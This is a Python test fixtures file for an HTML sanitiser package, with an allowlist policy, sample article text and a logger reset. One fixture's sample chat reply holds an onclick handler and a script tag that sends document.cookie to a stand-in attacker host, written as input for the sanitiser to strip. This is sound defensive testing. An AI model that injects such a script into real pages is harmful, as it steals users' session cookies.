"""Shared fixtures for rich_text tests."""

import logging

import pytest

from rich_text.policy import AllowlistPolicy


@pytest.fixture
def paragraph_only_policy():
    """Policy that keeps <p> and nothing else."""
    return AllowlistPolicy(
        allowed_tags=frozenset({"p"}),
        allowed_attributes={},
        forced_attributes={},
    )


@pytest.fixture
def assistant_reply():
    """Typical HTML answer from the chat backend, with a few unsafe extras."""
    return (
        '<h3 style="color:red">Summary</h3>'
        '<p onclick="steal()">Rates rose <strong>0.25%</strong> today.</p>'
        '<ul><li>Inflation &amp; jobs</li><li>Housing</li></ul>'
        '<a href="https://example.com/report" class="btn">Full report</a>'
        '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'
    )


@pytest.fixture
def article_body():
    """Plain multi-line article text as returned by the article API."""
    return "First paragraph of the story.\n\nSecond paragraph, with 3 < 4.\r\nThird line."


@pytest.fixture(autouse=True)
def reset_package_logger():
    """Remove handlers the CLI attaches so tests do not leak them."""
    package_logger = logging.getLogger("rich_text")
    handlers = list(package_logger.handlers)
    level = package_logger.level
    yield
    package_logger.handlers[:] = handlers
    package_logger.setLevel(level)
